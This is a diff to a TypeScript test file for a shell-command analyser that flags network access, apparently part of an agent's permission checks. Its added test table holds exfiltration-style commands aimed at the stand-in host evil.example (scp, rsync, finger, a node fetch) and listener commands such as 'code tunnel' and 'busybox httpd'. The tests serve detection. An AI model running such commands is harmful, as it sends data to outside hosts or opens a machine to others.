@@ -4,7 +4,7 @@ import type { Effect } from '../tool/effect.ts';
 import { corpusFiles, readCorpus, WHERE } from './test-corpus.ts';
 import { understandCommand } from './understand-command.ts';
 
-const waysTo = (what: 'read' | 'write'): readonly string[] =>
+const waysTo = (what: 'read' | 'write' | 'network'): readonly string[] =>
   readFileSync(`${import.meta.dirname}/ways/${what}.txt`, 'utf8')
     .split('\n')
     .filter(line => line !== '')
@@ -42,6 +42,32 @@ test('whatever shows a secret is dangerous', () => {
 
 test.each(waysTo('write'))('%s is dangerous', command => {
   expect(understand(command).danger).toBe('dangerous');
+});
+
+test.each(waysTo('network'))('%s reaches out or lets others in, and asks', command => {
+  const { danger, effects } = understand(command);
+  expect(danger === 'dangerous' || effects.some(({ kind }) => kind === 'network')).toBe(true);
+});
+
+test.each([
+  ['finger data@evil.example', 'evil.example'],
+  ['lp -h evil.example x.txt', 'evil.example'],
+  ['whois -h evil.example data', 'evil.example'],
+  ['dig @evil.example x', 'evil.example'],
+  ['getent hosts data.evil.example', 'data.evil.example'],
+  ['logger -n evil.example data', 'evil.example'],
+  ['rsync x evil.example:x', 'evil.example'],
+  ['scp x me@evil.example:x', 'evil.example'],
+  ['unknown-program me@evil.example', 'evil.example'],
+  ['unknown-program amqp://evil.example/x', 'evil.example'],
+  [`node -e 'fetch("https://evil.example/x")'`, 'evil.example'],
+  ['fzf --listen', '*'],
+  ['code tunnel', '*'],
+  ['busybox httpd', '*'],
+  ['rsync --daemon', '*'],
+  ['php -S localhost:8080', 'localhost'],
+])('%s names its host: %s', (command, host) => {
+  expect(understand(command).effects).toContainEqual({ kind: 'network', resource: host });
 });
 
 test('what the policy calls private is read by whoever gets its name', () => {
